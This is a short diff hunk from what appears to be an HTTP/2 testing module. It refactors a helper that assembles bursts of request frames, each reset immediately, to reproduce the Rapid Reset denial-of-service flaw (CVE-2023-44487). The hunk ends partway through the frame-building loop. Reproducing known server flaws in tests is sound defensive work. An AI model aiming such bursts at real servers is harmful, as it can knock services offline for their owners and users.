@@ -242,12 +242,13 @@ async def connect_h2(
 ZERO_WINDOW = {SettingCodes.INITIAL_WINDOW_SIZE: 0}
 
 
-def rapid_reset_burst(client: H2Client, count: int, path: bytes) -> bytes:
-    """``count`` requests for ``path``, each reset at once (CVE-2023-44487)."""
+def rapid_reset_burst(conn: h2.connection.H2Connection, count: int, path: bytes) -> bytes:
+    """``count`` requests for ``path`` from the client ``conn`` (its header encoder),
+    each reset at once (CVE-2023-44487)."""
     burst = b""
     for n in range(count):
         stream_id = 1 + 2 * n
-        block = client.conn.encoder.encode(
+        block = conn.encoder.encode(
             [(b":method", b"GET"), (b":path", path), (b":scheme", b"http"), (b":authority", b"x")]
         )
         burst += HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
